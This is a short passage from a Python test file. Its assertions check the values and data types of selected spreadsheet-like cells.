    assert (sel[2].value, sel[3].value) == (12.5, 5) and sel[3].data_type == "n"
    assert (sel[4].value, sel[5].value) == ("NIK", "True")
